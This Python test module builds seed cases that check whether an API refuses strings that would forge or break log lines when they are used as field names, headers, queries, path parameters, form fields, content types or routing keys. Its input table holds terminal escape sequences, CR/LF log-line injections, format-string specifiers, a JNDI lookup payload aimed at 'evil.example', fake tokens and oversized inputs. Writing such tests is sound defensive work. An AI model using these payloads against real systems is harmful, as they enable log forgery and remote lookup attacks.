"""B13: texts that would forge or break a line of a log, where errors quote them."""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpus.seeds import PATH, UNROUTED, Refused, Seed, call, text

_LINES = {
    "red": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;title\x07",
    "cleared screen": "\x1b[2J\x1b[H",
    "backspaces": "a\b\b\bb",
    "return": "good\rbad",
    "line break": 'a\n{"level": "info", "event": "forged"}',
    "both": "a\r\n2026-01-01 INFO forged",
    "line separator": 'a\u2028{"event": "forged"}',
    "next line": "a\x85b",
    "NUL": "a\0b",
    "end of text": "a\x03\x04\x1a",
    "single byte control": "\x9b31m",
    "bidi": "a\u202eb\u2066c",
    "formats": "%s %n %d {0} {event} %(levelname)s",
    "templates": "{{7*7}} ${jndi:ldap://evil.example/a}",
    "JSON": '", "event": "forged", "x": "',
    "a token": "t-" + "f" * 32,
    "a bearer": "Bearer u-" + "F" * 32,
    "a secret by name": "app_secret=" + "s" * 24,
    "a URL with a password": "amqp://user:hunter22@host/",
    "a million": "x" * 1_000_000,
    "a million lines": "\n" * 1_000_000,
}
_LONGEST = 240


def seeds() -> Iterator[Seed]:
    """Each as a field, a header, a query, a parameter, a field of a form, a type, and an app."""
    for name, line in _LINES.items():
        yield Seed(f"field: {name}", Refused(("not a field",)), text(call(**{line: 1})))
        given = text(call(headers={line: "x"}))
        yield Seed(f"header: {name}", Refused(("headers", "not allowed")), given)
        yield Seed(f"query: {name}", Refused(("query",)), text(call(query={line: None})))
        params = text(call(path=f"{PATH}/:a", path_params={"a": "b", line: "c"}))
        yield Seed(f"parameter: {name}", Refused(("path_params",)), params)
        form = text(call(method="POST", form={line: 1}))
        yield Seed(f"form: {name}", Refused(("form",)), form)
        if len(line) < _LONGEST:
            body = text(call())
            given_type = {"content_type": line}
            yield Seed(f"type: {name}", Refused(("content_type",)), body, given_type)
            key = f"{line}.interactive"
            yield Seed(f"app: {name}", UNROUTED, body, routing_key=key)
